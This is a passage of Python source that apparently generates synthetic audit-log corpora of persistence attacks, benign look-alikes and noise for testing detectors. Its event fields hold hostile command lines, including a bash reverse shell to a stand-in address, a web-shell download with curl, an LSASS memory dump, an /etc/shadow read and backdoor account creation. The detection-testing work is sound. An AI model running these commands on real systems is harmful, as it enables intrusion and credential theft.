"""Deterministic synthetic corpora with embedded persistence attacks.

Every attack runs on its own host: boot, an initial-access chain, some
kill-chain context, the setup actions, a reboot (termination flood, fresh
system GUIDs, time jump) and the execution chain ending in a remote
connection. Benign mimics reproduce updater behaviour that looks like
persistence. Noise comes from a small library of benign templates.
"""

from __future__ import annotations

import json
import logging
import random
from dataclasses import asdict, dataclass, field
from pathlib import Path
from typing import Optional, Union

import yaml

from .ingest import (
    AccountObject,
    AuditEvent,
    EventType,
    FileObject,
    IpcObject,
    NetObject,
    ProcessObject,
    ProcessRef,
    RegistryObject,
    canon,
    serialize_event,
)

logger = logging.getLogger(__name__)

T0 = 1_700_000_000_000
REBOOT_JUMP_MS = 120_000
NOISE_AFTER_BOOT_MS = 60_000
C2_IPS = ("203.0.113.10", "203.0.113.77", "198.51.100.23", "198.51.100.99")
BENIGN_IPS = ("13.107.42.14", "142.250.74.46", "151.101.1.69", "104.16.132.229", "23.55.161.10")
ATTACKER_HOST = "kali-ext"

RUN_KEY = r"HKCU\Software\Microsoft\Windows\CurrentVersion\Run"
STARTUP = r"C:\Users\{user}\AppData\Roaming\Microsoft\Windows\Start Menu\Programs\Startup"
SERVICES = r"HKLM\SYSTEM\CurrentControlSet\Services"
PS = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
CMD = r"C:\Windows\System32\cmd.exe"
SVCHOST = r"C:\Windows\System32\svchost.exe"
SCHEDULE_CMD = r"C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule"

TECHNIQUES = (
    "T1547.001", "T1053.005", "T1505.003", "T1574.002", "T1133", "T1543.003",
    "T1078.002", "T1546.003", "T1574.001", "T1136.001", "T1543.002",
)
LINUX_TECHNIQUES = frozenset({"T1505.003", "T1543.002"})
MIMIC_KINDS = ("runkey-updater", "updater-service")


class SpecError(ValueError):
    pass


@dataclass
class TechniqueSpec:
    technique: str
    n_s: int = 2
    n_e: int = 2
    reboot_gap_ms: int = 3_600_000
    variant: str = ""  # run-key|startup-folder (T1547.001), external|internal (account techniques)
    name: str = ""  # capture value override (service/task/account/file name)
    context: bool = True

    def __post_init__(self):
        if self.technique not in TECHNIQUES:
            raise SpecError(f"unsupported technique {self.technique!r}")
        if self.n_s < 1 or self.n_e < 1:
            raise SpecError("n_s and n_e must be >= 1")
        if self.reboot_gap_ms < 0:
            raise SpecError("reboot_gap_ms must be >= 0")


@dataclass
class MimicSpec:
    kind: str = "runkey-updater"
    count: int = 1

    def __post_init__(self):
        if self.kind not in MIMIC_KINDS:
            raise SpecError(f"unknown mimic kind {self.kind!r}")
        if self.count < 0:
            raise SpecError("mimic count must be >= 0")


@dataclass
class NoiseSpec:
    events_per_minute: float = 60.0
    duration_ms: int = 600_000

    def __post_init__(self):
        if self.events_per_minute < 0 or self.duration_ms < 0:
            raise SpecError("noise rate and duration must be >= 0")


@dataclass
class ScenarioSpec:
    seed: int = 0
    techniques: list = field(default_factory=list)
    mimics: list = field(default_factory=list)
    noise: NoiseSpec = field(default_factory=NoiseSpec)
    hosts: int = 0  # extra noise-only hosts
    ipc_volume: float = 0.0  # IPC bytes per base byte for emit_alpc_variant
    name: str = "custom"

    @classmethod
    def from_dict(cls, doc: dict) -> "ScenarioSpec":
        if not isinstance(doc, dict):
            raise SpecError("scenario spec must be a mapping")
        try:
            techs = [TechniqueSpec(**t) if isinstance(t, dict) else TechniqueSpec(str(t))
                     for t in doc.get("techniques", [])]
            mimics = [MimicSpec(**m) if isinstance(m, dict) else MimicSpec(str(m))
                      for m in doc.get("mimics", [])]
            noise = NoiseSpec(**doc.get("noise", {}))
            return cls(int(doc.get("seed", 0)), techs, mimics, noise, int(doc.get("hosts", 0)),
                       float(doc.get("ipc_volume", 0.0)), str(doc.get("name", "custom")))
        except TypeError as exc:
            raise SpecError(str(exc)) from None

    def to_dict(self) -> dict:
        return asdict(self)


@dataclass
class TruthRecord:
    kind: str  # attack | mimic
    technique: str
    host: str
    setup_events: list
    execution_events: list
    captures: dict
    pseudo_edge: str
    initiator: str = ""
    anchor: str = ""
    n_s: int = 1
    n_e: int = 1
    benign_events: list = field(default_factory=list)
    exec_host: str = ""

    def to_dict(self) -> dict:
        return asdict(self)


@dataclass
class GroundTruth:
    records: list = field(default_factory=list)

    @property
    def attacks(self) -> list:
        return [r for r in self.records if r.kind == "attack"]

    @property
    def mimics(self) -> list:
        return [r for r in self.records if r.kind == "mimic"]

    def to_ndjson(self) -> str:
        return "".join(json.dumps(r.to_dict(), sort_keys=True) + "\n" for r in self.records)

    @classmethod
    def from_ndjson(cls, text: str) -> "GroundTruth":
        return cls([TruthRecord(**json.loads(line)) for line in text.splitlines() if line.strip()])


# ---------------------------------------------------------------------------
# event emission


class _Host:
    def __init__(self, name: str, os_: str, user: str):
        self.name = name
        self.os = os_
        self.user = user
        self.live: dict[str, ProcessRef] = {}
        self.sys: dict[str, ProcessRef] = {}
        self.epochs: list = []  # (start_ts, end_ts or None, brokers)


class _Gen:
    def __init__(self, seed: int):
        self.rng = random.Random(seed)
        self.events: list[AuditEvent] = []
        self._n = 0
        self._g = 0

    def eid(self) -> str:
        self._n += 1
        return f"e{self._n:07d}"

    def guid(self) -> str:
        self._g += 1
        r = self.rng.getrandbits(48)
        return f"{{{self._g:08x}-{r >> 32:04x}-{(r >> 16) & 0xffff:04x}-{r & 0xffff:04x}}}"

    def emit(self, host: _Host, ts: int, etype: EventType, actor: ProcessRef, obj=None) -> str:
        eid = self.eid()
        self.events.append(AuditEvent(eid, ts, host.name, etype, actor, obj))
        return eid

    def spawn(self, host: _Host, ts: int, parent: Optional[ProcessRef], image: str,
              cmdline: str = "") -> tuple[ProcessRef, str]:
        p = ProcessRef(self.guid(), self.rng.randint(100, 65000), image, cmdline or image,
                       parent.guid if parent else "")
        host.live[p.guid] = p
        eid = ""
        if parent is not None:
            eid = self.emit(host, ts, EventType.PROCESS_CREATE, parent, ProcessObject(p))
        return p, eid

    def step(self, lo: int = 5, hi: int = 60) -> int:
        return self.rng.randint(lo, hi)

    # -- boot / reboot -----------------------------------------------------

    def boot(self, host: _Host, ts: int) -> int:
        s = host.sys = {}
        if host.os == "windows":
            system, _ = self.spawn(host, ts, None, "System", "System")
            ts += 1
            smss, _ = self.spawn(host, ts, system, r"C:\Windows\System32\smss.exe")
            ts += self.step()
            wininit, _ = self.spawn(host, ts, smss, r"C:\Windows\System32\wininit.exe")
            ts += self.step()
            s["services"], _ = self.spawn(host, ts, wininit, r"C:\Windows\System32\services.exe")
            ts += self.step()
            s["lsass"], _ = self.spawn(host, ts, wininit, r"C:\Windows\System32\lsass.exe")
            ts += self.step()
            s["dcom"], _ = self.spawn(host, ts, s["services"], SVCHOST, r"C:\Windows\system32\svchost.exe -k DcomLaunch -p")
            ts += self.step()
            self.emit(host, ts, EventType.REG_READ, s["services"], RegistryObject(SERVICES + r"\Schedule", "ImagePath", SVCHOST))
            ts += self.step()
            s["schedule"], _ = self.spawn(host, ts, s["services"], SVCHOST, SCHEDULE_CMD)
            ts += self.step()
            s["termsvc"], _ = self.spawn(host, ts, s["services"], SVCHOST, r"C:\Windows\System32\svchost.exe -k NetworkService -s TermService")
            ts += self.step()
            winlogon, _ = self.spawn(host, ts, smss, r"C:\Windows\System32\winlogon.exe")
            ts += self.step()
            userinit, _ = self.spawn(host, ts, winlogon, r"C:\Windows\System32\userinit.exe")
            ts += self.step()
            s["explorer"], _ = self.spawn(host, ts, userinit, r"C:\Windows\explorer.exe")
            ts += self.step()
            # a legitimate autostart entry read and launched at logon
            ex = s["explorer"]
            tray = r"C:\Windows\System32\SecurityHealthSystray.exe"
            self.emit(host, ts, EventType.REG_READ, ex, RegistryObject(r"HKLM\Software\Microsoft\Windows\CurrentVersion\Run", "SecurityHealth", tray))
            ts += self.step()
            self.spawn(host, ts, ex, tray)
            ts += self.step()
        else:
            s["systemd"], _ = self.spawn(host, ts, None, "/usr/lib/systemd/systemd", "/sbin/init splash")
            ts += 1
            for unit, image, cmd in (("ssh", "/usr/sbin/sshd", "/usr/sbin/sshd -D"),
                                     ("cron", "/usr/sbin/cron", "/usr/sbin/cron -f"),
                                     ("apache2", "/usr/sbin/apache2", "/usr/sbin/apache2 -k start")):
                self.emit(host, ts, EventType.FILE_READ, s["systemd"],
                          FileObject(f"/sys/fs/cgroup/system.slice/{unit}.service/cgroup.procs"))
                ts += self.step()
                s[unit], _ = self.spawn(host, ts, s["systemd"], image, cmd)
                ts += self.step()
        host.epochs.append([ts, None, list(s.values())])
        return ts

    def reboot(self, host: _Host, ts: int) -> int:
        for p in sorted(host.live.values(), key=lambda p: p.guid, reverse=True):
            self.emit(host, ts, EventType.PROCESS_TERMINATE, p)
            ts += 1
        host.live.clear()
        host.epochs[-1][1] = ts
        return self.boot(host, ts + REBOOT_JUMP_MS)

    # -- helpers -----------------------------------------------------------

    def chain(self, host: _Host, ts: int, top: ProcessRef, images: list) -> tuple[list, int]:
        procs = [top]
        for image, cmd in images:
            ts += self.step()
            p, _ = self.spawn(host, ts, procs[-1], image, cmd)
            procs.append(p)
        return procs, ts

    def connect(self, host: _Host, ts: int, p: ProcessRef, ip: str, port: int = 443) -> str:
        return self.emit(host, ts, EventType.NET_CONNECT, p, NetObject(ip, port, "out"))


# ---------------------------------------------------------------------------
# attack templates


def _setup_images(os_: str, n: int) -> list:
    """Process chain from the logon shell down to the setup initiator (n Start edges)."""
    if n <= 0:
        return []
    if os_ == "windows":
        tail = [(PS, "powershell.exe -nop -w hidden")]
        if n >= 2:
            head = [(r"C:\Users\{user}\Downloads\Q3-report.doc.exe", r"C:\Users\{user}\Downloads\Q3-report.doc.exe")]
            mid = [(CMD, "cmd.exe /c start powershell")] * (n - 2)
            return head + mid + tail
        return tail
    tail = [("/bin/bash", "-bash")]
    return [("/usr/bin/sudo", "sudo -s")] * (n - 1) + tail if n >= 2 else tail


def _exec_images(os_: str, n: int, payload: tuple) -> list:
    """n processes below the broker; the payload comes first, later links alternate shells."""
    out = [payload]
    if os_ == "windows":
        cyc = [(CMD, "cmd.exe /c"), (PS, "powershell.exe -nop -enc SQBFAFgA")]
    else:
        cyc = [("/bin/sh", "sh -c"), ("/bin/bash", "bash -i")]
    for i in range(n - 1):
        out.append(cyc[i % 2])
    return out


class _Attack:
    def __init__(self, gen: _Gen, host: _Host, spec: TechniqueSpec, idx: int):
        self.g, self.h, self.s, self.idx = gen, host, spec, idx
        self.setup_events: list = []
        self.exec_events: list = []
        self.captures: dict = {}
        self.initiator = ""
        self.anchor = ""
        self.exec_host = host.name
        self.n_s, self.n_e = spec.n_s, spec.n_e

    def fmt(self, s: str) -> str:
        return s.replace("{user}", self.h.user)

    def run(self, ts: int) -> int:
        g, h, s = self.g, self.h, self.s
        ts = g.boot(h, ts) + 30_000
        method = getattr(self, "_" + s.technique.replace(".", "_"))
        return method(ts)

    def _initiator(self, ts: int, depth: int) -> tuple[ProcessRef, int]:
        h = self.h
        top = h.sys["explorer"] if h.os == "windows" else h.sys["ssh"]
        if h.os != "windows":
            ts += self.g.step()
            self.g.emit(h, ts, EventType.NET_ACCEPT, top, NetObject(C2_IPS[1], 22, "in"))
        imgs = [(self.fmt(i), self.fmt(c)) for i, c in _setup_images(h.os, depth)]
        procs, ts = self.g.chain(h, ts, top, imgs)
        return procs[-1], ts

    def _context(self, ts: int, p: ProcessRef) -> int:
        if not self.s.context:
            return ts
        g, h = self.g, self.h
        if h.os == "windows":
            ts += g.step()
            g.spawn(h, ts, p, r"C:\Windows\System32\rundll32.exe",
                    r"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 624 C:\Temp\lsass.dmp full")
            ts += g.step()
            g.spawn(h, ts, p, r"C:\Windows\System32\net.exe", "net view /all")
        else:
            ts += g.step()
            g.emit(h, ts, EventType.FILE_READ, p, FileObject("/etc/shadow"))
            ts += g.step()
            g.spawn(h, ts, p, "/usr/bin/uname", "uname -a")
        return ts + g.step()

    def _reboot(self, ts: int) -> int:
        return self.g.reboot(self.h, ts + self.s.reboot_gap_ms)

    def _payload_chain(self, ts: int, broker: ProcessRef, payload: tuple, port: int = 443) -> int:
        g, h = self.g, self.h
        procs, ts = g.chain(h, ts, broker, _exec_images(h.os, self.s.n_e, payload))
        ts += g.step()
        g.connect(h, ts, procs[-1], C2_IPS[self.idx % len(C2_IPS)], port)
        self.anchor = procs[-1].guid
        return ts + g.step()

    # T1547.001 -----------------------------------------------------------

    def _T1547_001(self, ts: int) -> int:
        g, h, s = self.g, self.h, self.s
        p, ts = self._initiator(ts, s.n_s)
        self.initiator = p.guid
        ts = self._context(ts, p)
        name = s.name or "hostui"
        payload = self.fmt(rf"C:\Users\{{user}}\AppData\Local\Temp\{name}.exe")
        ts += g.step()
        g.emit(h, ts, EventType.FILE_WRITE, p, FileObject(payload))
        ts += g.step()
        if s.variant == "startup-folder":
            lnk = self.fmt(STARTUP + rf"\{name}.lnk")
            self.setup_events.append(g.emit(h, ts, EventType.FILE_WRITE, p, FileObject(lnk)))
            self.captures = {"trigger": canon(lnk)}
            ts = self._reboot(ts)
            ts += 2_000
            ex = h.sys["explorer"]
            self.exec_events.append(g.emit(h, ts, EventType.FILE_READ, ex, FileObject(lnk)))
            ts += g.step(50, 300)
            if s.n_e == 5:
                imgs = [(CMD, f'cmd.exe /c "{payload}"'), (PS, "powershell.exe -ep bypass"), (payload, payload),
                        (PS, "powershell.exe -nop -w hidden"), (PS, "powershell.exe -nop -enc SQBFAFgA")]
                procs, ts = g.chain(h, ts, ex, imgs)
                ts += g.step()
                g.connect(h, ts, procs[-1], C2_IPS[self.idx % len(C2_IPS)])
                self.anchor = procs[-1].guid
                return ts + g.step()
            return self._payload_chain(ts, ex, (payload, payload))
        value = f'"{payload}" /silent'
        self.setup_events.append(g.emit(h, ts, EventType.REG_SET, p, RegistryObject(RUN_KEY, name, value)))
        self.captures = {"trigger": canon(payload)}
        ts = self._reboot(ts)
        ts += 2_000
        ex = h.sys["explorer"]
        self.exec_events.append(g.emit(h, ts, EventType.REG_READ, ex, RegistryObject(RUN_KEY, name, value)))
        ts += g.step(50, 300)
        return self._payload_chain(ts, ex, (payload, value))

    # T1053.005 -----------------------------------------------------------

    def _T1053_005(self, ts: int) -> int:
        g, h, s = self.g, self.h, self.s
        p, ts = self._initiator(ts, s.n_s)
        self.initiator = p.guid
        ts = self._context(ts, p)
        task = s.name or "OneDriveSync"
        payload = self.fmt(rf"C:\Users\{{user}}\AppData\Local\{task}.exe")
        ts += g.step()
        g.emit(h, ts, EventType.FILE_WRITE, p, FileObject(payload))
        ts += g.step()
        st, first = g.spawn(h, ts, p, r"C:\Windows\System32\schtasks.exe",
                            f'schtasks.exe /create /tn {task} /tr "{payload}" /sc onlogon /f')
        ts += g.step(100, 900)
        path = rf"C:\Windows\System32\Tasks\{task}"
        self.setup_events += [first, g.emit(h, ts, EventType.FILE_WRITE, st, FileObject(path))]
        self.captures = {"task": canon(task)}
        ts = self._reboot(ts) + 5_000
        sch = h.sys["schedule"]
        self.exec_events.append(g.emit(h, ts, EventType.FILE_READ, sch, FileObject(path)))
        ts += g.step(50, 300)
        return self._payload_chain(ts, sch, (payload, payload))

    # T1505.003 -----------------------------------------------------------

    def _T1505_003(self, ts: int) -> int:
        g, h, s = self.g, self.h, self.s
        p, ts = self._initiator(ts, max(1, s.n_s - 1))
        ts = self._context(ts, p)
        shell = f"/var/www/html/{s.name or 'wp-cache'}.php"
        ts += g.step()
        curl, _ = g.spawn(h, ts, p, "/usr/bin/curl", f"curl -o {shell} http://{C2_IPS[0]}/s.txt")
        self.initiator = curl.guid
        ts += g.step()
        g.connect(h, ts, curl, C2_IPS[0], 80)
        ts += g.step()
        self.setup_events.append(g.emit(h, ts, EventType.FILE_WRITE, curl, FileObject(shell)))
        self.captures = {"shell": shell}
        ts = self._reboot(ts) + 5_000
        ap = h.sys["apache2"]
        g.emit(h, ts, EventType.NET_ACCEPT, ap, NetObject(C2_IPS[2], 80, "in"))
        ts += g.step()
        self.exec_events.append(g.emit(h, ts, EventType.FILE_READ, ap, FileObject(shell)))
        ts += g.step()
        return self._payload_chain(ts, ap, ("/bin/sh", "sh -c 'bash -i >& /dev/tcp/203.0.113.10/4444 0>&1'"), 4444)

    # T1574.001 / T1574.002 ---------------------------------------------

    def _dll(self, ts: int, dll: str, host_exe: str) -> int:
        g, h, s = self.g, self.h, self.s
        p, ts = self._initiator(ts, s.n_s)
        self.initiator = p.guid
        ts = self._context(ts, p)
        ts += g.step()
        g.emit(h, ts, EventType.FILE_WRITE, p, FileObject(host_exe))
        ts += g.step()
        self.setup_events.append(g.emit(h, ts, EventType.FILE_WRITE, p, FileObject(dll)))
        # a second DLL dropped and cleaned up again: must stay silent
        tmp = dll.rsplit("\\", 1)[0] + r"\tmp5f2a.dll"
        ts += g.step()
        g.emit(h, ts, EventType.FILE_WRITE, p, FileObject(tmp))
        ts += g.step()
        g.emit(h, ts, EventType.FILE_DELETE, p, FileObject(tmp))
        self.captures = {"dll": canon(dll)}
        ts = self._reboot(ts) + 5_000
        ex = h.sys["explorer"]
        # the loader is started from the user shell through n_e - 1 intermediate links
        imgs = [(CMD, "cmd.exe /c start")] * (s.n_e - 1) + [(host_exe, host_exe)]
        procs, ts = g.chain(h, ts, ex, imgs)
        self.n_e = 1  # the loader is the remote process itself
        app = procs[-1]
        ts += g.step()
        self.exec_events.append(g.emit(h, ts, EventType.MODULE_LOAD, app, FileObject(dll)))
        ts += g.step()
        g.connect(h, ts, app, C2_IPS[self.idx % len(C2_IPS)])
        self.anchor = app.guid
        return ts + g.step()

    def _T1574_001(self, ts: int) -> int:
        return self._dll(ts, r"C:\Program Files\Notepad++\version.dll", r"C:\Program Files\Notepad++\notepad++.exe")

    def _T1574_002(self, ts: int) -> int:
        return self._dll(ts, r"C:\ProgramData\Vendor\libvlccore.dll", r"C:\ProgramData\Vendor\vlc.exe")

    # T1133 ---------------------------------------------------------------

    def _T1133(self, ts: int) -> int:
        g, h, s = self.g, self.h, self.s
        p, ts = self._initiator(ts, s.n_s)
        self.initiator = p.guid
        ts = self._context(ts, p)
        tool = r"C:\ProgramData\AnyDesk\AnyDesk.exe"
        ts += g.step()
        self.setup_events.append(g.emit(h, ts, EventType.FILE_WRITE, p, FileObject(tool)))
        self.captures = {"tool": canon(tool)}
        ts = self._reboot(ts) + 5_000
        svc = h.sys["services"]
        ts += g.step()
        ad, eid = g.spawn(h, ts, svc, tool, f'"{tool}" --service')
        self.exec_events.append(eid)
        ts += g.step()
        g.emit(h, ts, EventType.NET_ACCEPT, ad, NetObject(C2_IPS[3], 7070, "in"))
        self.anchor = ad.guid
        self.n_e = 1
        return ts + g.step()

    # T1543.003 -----------------------------------------------------------

    def _T1543_003(self, ts: int) -> int:
        g, h, s = self.g, self.h, self.s
        p, ts = self._initiator(ts, s.n_s - 1)
        ts = self._context(ts, p)
        svc = s.name or "WinDefendUpd"
        payload = rf"C:\Windows\Temp\{svc.lower()}.exe"
        ts += g.step()
        g.emit(h, ts, EventType.FILE_WRITE, p, FileObject(payload))
        ts += g.step()
        sc, _ = g.spawn(h, ts, p, r"C:\Windows\System32\sc.exe", f'sc.exe create {svc} binPath= "{payload}" start= auto')
        self.initiator = sc.guid
        ts += g.step(100, 800)
        key = rf"{SERVICES}\{svc}"
        self.setup_events.append(g.emit(h, ts, EventType.REG_SET, h.sys["services"], RegistryObject(key, "ImagePath", payload)))
        self.captures = {"service": canon(svc)}
        ts = self._reboot(ts) + 3_000
        sv = h.sys["services"]
        self.exec_events.append(g.emit(h, ts, EventType.REG_READ, sv, RegistryObject(key, "ImagePath", payload)))
        ts += g.step(50, 300)
        return self._payload_chain(ts, sv, (payload, payload))

    # T1543.002 -----------------------------------------------------------

    def _T1543_002(self, ts: int) -> int:
        g, h, s = self.g, self.h, self.s
        p, ts = self._initiator(ts, s.n_s)
        self.initiator = p.guid
        ts = self._context(ts, p)
        unit = f"{s.name or 'dbus-org.update'}.service"
        payload = "/usr/local/bin/" + unit.rsplit(".", 1)[0]
        ts += g.step()
        g.emit(h, ts, EventType.FILE_WRITE, p, FileObject(payload))
        ts += g.step()
        self.setup_events.append(g.emit(h, ts, EventType.FILE_WRITE, p, FileObject(f"/etc/systemd/system/{unit}")))
        self.captures = {"service": unit}
        ts = self._reboot(ts) + 3_000
        sd = h.sys["systemd"]
        self.exec_events.append(g.emit(h, ts, EventType.FILE_READ, sd, FileObject(f"/sys/fs/cgroup/system.slice/{unit}/cgroup.procs")))
        ts += g.step()
        return self._payload_chain(ts, sd, (payload, payload))

    # accounts ------------------------------------------------------------

    def _account(self, ts: int, domain: bool) -> int:
        g, h, s = self.g, self.h, self.s
        p, ts = self._initiator(ts, s.n_s - 1)
        ts = self._context(ts, p)
        acct = s.name or ("svc_backup" if domain else "supportadm")
        ts += g.step()
        net, _ = g.spawn(h, ts, p, r"C:\Windows\System32\net.exe",
                         f"net user {acct} P@ssw0rd! /add" + (" /domain" if domain else ""))
        self.initiator = net.guid
        ts += g.step()
        self.setup_events.append(g.emit(h, ts, EventType.ACCOUNT_CREATE, net, AccountObject(acct, domain)))
        self.captures = {"account": canon(acct)}
        ts = self._reboot(ts) + 90_000
        internal = s.variant == "internal"
        src_ip, src_host = ("10.0.3.17", "ws17.corp.local") if internal else (C2_IPS[self.idx % len(C2_IPS)], ATTACKER_HOST)
        term = h.sys["termsvc"]
        g.emit(h, ts, EventType.NET_ACCEPT, term, NetObject(src_ip, 3389, "in"))
        ts += g.step()
        self.exec_events.append(g.emit(h, ts, EventType.LOGIN, term, AccountObject(acct, domain, src_ip, src_host)))
        self.anchor = term.guid
        self.n_e = 1
        return ts + g.step()

    def _T1078_002(self, ts: int) -> int:
        return self._account(ts, True)

    def _T1136_001(self, ts: int) -> int:
        return self._account(ts, False)

    # T1546.003 -----------------------------------------------------------

    def _T1546_003(self, ts: int) -> int:
        g, h, s = self.g, self.h, self.s
        p, ts = self._initiator(ts, s.n_s)
        self.initiator = p.guid
        ts = self._context(ts, p)
        name = s.name or "SCMUpdater"
        template = rf"{PS} -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA"
        ts += g.step()
        wmic, first = g.spawn(h, ts, p, r"C:\Windows\System32\wbem\WMIC.exe",
                              rf'wmic /namespace:\\root\subscription PATH CommandLineEventConsumer CREATE '
                              rf'Name="{name}", CommandLineTemplate="{template}"')
        ts += g.step(100, 900)
        self.setup_events += [first, g.emit(h, ts, EventType.FILE_WRITE, wmic,
                                             FileObject(r"C:\Windows\System32\wbem\Repository\OBJECTS.DATA"))]
        self.captures = {"payload": canon(template)}
        ts = self._reboot(ts) + 5_000
        wmi, _ = g.spawn(h, ts, h.sys["dcom"], r"C:\Windows\System32\wbem\WmiPrvSE.exe",
                         r"C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding")
        ts += g.step()
        imgs = _exec_images(h.os, s.n_e, (PS, template))
        procs, ts = g.chain(h, ts, wmi, imgs)
        # the first link's creation event is the trigger
        self.exec_events.append(g.events[-len(imgs)].event_id)
        ts += g.step()
        g.connect(h, ts, procs[-1], C2_IPS[self.idx % len(C2_IPS)])
        self.anchor = procs[-1].guid
        return ts + g.step()


# ---------------------------------------------------------------------------
# mimics and noise


def _mimic(gen: _Gen, host: _Host, kind: str, ts: int) -> tuple[TruthRecord, int]:
    g, h = gen, host
    ts = g.boot(h, ts) + 20_000
    ex = h.sys["explorer"]
    if kind == "runkey-updater":
        od = rf"C:\Users\{h.user}\AppData\Local\Microsoft\OneDrive\OneDrive.exe"
        p, _ = g.spawn(h, ts, ex, od, f'"{od}" /background')
        ts += g.step()
        value = f'"{od}" /background'
        setup = g.emit(h, ts, EventType.REG_SET, p, RegistryObject(RUN_KEY, "OneDrive", value))
        ts += g.step()
        g.connect(h, ts, p, BENIGN_IPS[0])
        ts = g.reboot(h, ts + 1_800_000) + 2_000
        ex = h.sys["explorer"]
        read = g.emit(h, ts, EventType.REG_READ, ex, RegistryObject(RUN_KEY, "OneDrive", value))
        ts += g.step(50, 300)
        q, _ = g.spawn(h, ts, ex, od, value)
        ts += g.step()
        g.connect(h, ts, q, BENIGN_IPS[0])
        tr = TruthRecord("mimic", "T1547.001", h.name, [setup], [read], {"trigger": canon(od)},
                         f"{setup}->{read}", p.guid, q.guid, 1, 1, [setup, read])
        return tr, ts + g.step()
    inst = r"C:\Users\{0}\Downloads\AcroRdrDCUpd.exe".format(h.user)
    p, _ = g.spawn(h, ts, ex, inst, inst)
    ts += g.step()
    svc_exe = r"C:\Program Files (x86)\Common Files\Adobe\ARM\1.0\armsvc.exe"
    g.emit(h, ts, EventType.FILE_WRITE, p, FileObject(svc_exe))
    ts += g.step()
    sc, _ = g.spawn(h, ts, p, r"C:\Windows\System32\sc.exe", f'sc.exe create AdobeARMservice binPath= "{svc_exe}" start= auto')
    ts += g.step(100, 800)
    key = rf"{SERVICES}\AdobeARMservice"
    setup = g.emit(h, ts, EventType.REG_SET, h.sys["services"], RegistryObject(key, "ImagePath", svc_exe))
    ts = g.reboot(h, ts + 1_800_000) + 3_000
    sv = h.sys["services"]
    read = g.emit(h, ts, EventType.REG_READ, sv, RegistryObject(key, "ImagePath", svc_exe))
    ts += g.step(50, 300)
    q, _ = g.spawn(h, ts, sv, svc_exe, f'"{svc_exe}"')
    ts += g.step()
    g.connect(h, ts, q, BENIGN_IPS[4])
    tr = TruthRecord("mimic", "T1543.003", h.name, [setup], [read], {"service": "adobearmservice"},
                     f"{setup}->{read}", sc.guid, q.guid, 2, 1, [setup, read])
    return tr, ts + g.step()


def _noise_windows(g: _Gen, h: _Host, ts: int, kind: int) -> int:
    ex = h.sys["explorer"]
    r = g.rng
    if kind == 0:  # browser
        p, _ = g.spawn(h, ts, ex, r"C:\Program Files\Google\Chrome\Application\chrome.exe", "chrome.exe --restore-last-session")
        for _ in range(r.randint(1, 3)):
            ts += g.step()
            g.connect(h, ts, p, BENIGN_IPS[r.randrange(len(BENIGN_IPS))])
            ts += g.step()
            g.emit(h, ts, EventType.FILE_WRITE, p, FileObject(
                rf"C:\Users\{h.user}\AppData\Local\Google\Chrome\User Data\Default\Cache\f_{r.randrange(1 << 20):06x}"))
        ts += g.step()
        g.emit(h, ts, EventType.MODULE_LOAD, p, FileObject(r"C:\Windows\System32\ntdll.dll"))
    elif kind == 1:  # shell usage
        c, _ = g.spawn(h, ts, ex, CMD, rf"cmd.exe /c dir C:\Users\{h.user}\Documents")
        ts += g.step()
        g.emit(h, ts, EventType.FILE_READ, c, FileObject(rf"C:\Users\{h.user}\Documents\notes-{r.randrange(100)}.txt"))
        ts += g.step()
        g.spawn(h, ts, c, r"C:\Windows\System32\ipconfig.exe", "ipconfig /all")
    elif kind == 2:  # scheduled updater
        sch = h.sys["schedule"]
        task = r"C:\Windows\System32\Tasks\GoogleUpdateTaskMachineUA"
        g.emit(h, ts, EventType.FILE_READ, sch, FileObject(task))
        ts += g.step()
        u, _ = g.spawn(h, ts, sch, r"C:\Program Files (x86)\Google\Update\GoogleUpdate.exe", "GoogleUpdate.exe /ua /installsource scheduler")
        ts += g.step()
        g.connect(h, ts, u, BENIGN_IPS[1])
        ts += g.step()
        g.emit(h, ts, EventType.REG_SET, u, RegistryObject(r"HKLM\Software\WOW6432Node\Google\Update", "LastChecked", str(ts)))
    else:  # office
        w, _ = g.spawn(h, ts, ex, r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE", "WINWORD.EXE /n")
        doc = rf"C:\Users\{h.user}\Documents\report-{r.randrange(100)}.docx"
        ts += g.step()
        g.emit(h, ts, EventType.FILE_READ, w, FileObject(doc))
        ts += g.step()
        g.emit(h, ts, EventType.FILE_WRITE, w, FileObject(doc.replace("report", "~$report")))
        ts += g.step()
        g.emit(h, ts, EventType.REG_READ, w, RegistryObject(r"HKCU\Software\Microsoft\Office\16.0\Word\Options", "AutoSave"))
    return ts


def _noise_linux(g: _Gen, h: _Host, ts: int, kind: int) -> int:
    r = g.rng
    if kind in (0, 2):  # web traffic
        ap = h.sys["apache2"]
        g.emit(h, ts, EventType.NET_ACCEPT, ap, NetObject(f"192.0.2.{r.randrange(1, 250)}", 443, "in"))
        ts += g.step()
        g.emit(h, ts, EventType.FILE_READ, ap, FileObject(r.choice(("/var/www/html/index.php", "/var/www/html/index.html"))))
    else:  # cron job
        c = h.sys["cron"]
        sh, _ = g.spawn(h, ts, c, "/bin/sh", "/bin/sh -c 'test -x /usr/sbin/logrotate && /usr/sbin/logrotate /etc/logrotate.conf'")
        ts += g.step()
        lr, _ = g.spawn(h, ts, sh, "/usr/sbin/logrotate", "/usr/sbin/logrotate /etc/logrotate.conf")
        ts += g.step()
        g.emit(h, ts, EventType.FILE_READ, lr, FileObject("/etc/logrotate.conf"))
        ts += g.step()
        g.emit(h, ts, EventType.FILE_WRITE, lr, FileObject(f"/var/log/syslog.{r.randint(1, 7)}.gz"))
    return ts


_EVENTS_PER_TEMPLATE = 4


def _noise(gen: _Gen, host: _Host, spec: NoiseSpec) -> None:
    """Benign activity inside every boot epoch of the host, clear of boot/logon."""
    if spec.events_per_minute <= 0 or spec.duration_ms <= 0:
        return
    n = int(round(spec.events_per_minute * spec.duration_ms / 60_000 / _EVENTS_PER_TEMPLATE))
    epochs = host.epochs
    if not epochs or n <= 0:
        return
    per = [max(0, n // len(epochs))] * len(epochs)
    per[-1] += n - sum(per)
    for (start, end, brokers), k in zip(epochs, per):
        lo = start + NOISE_AFTER_BOOT_MS
        hi = lo + spec.duration_ms if end is None else min(end - 1_000, lo + spec.duration_ms)
        if hi <= lo or k <= 0:
            continue
        sysmap = {}
        for p in brokers:
            for role, q in _roles(host, p).items():
                sysmap.setdefault(role, q)
        saved = host.sys
        host.sys = sysmap
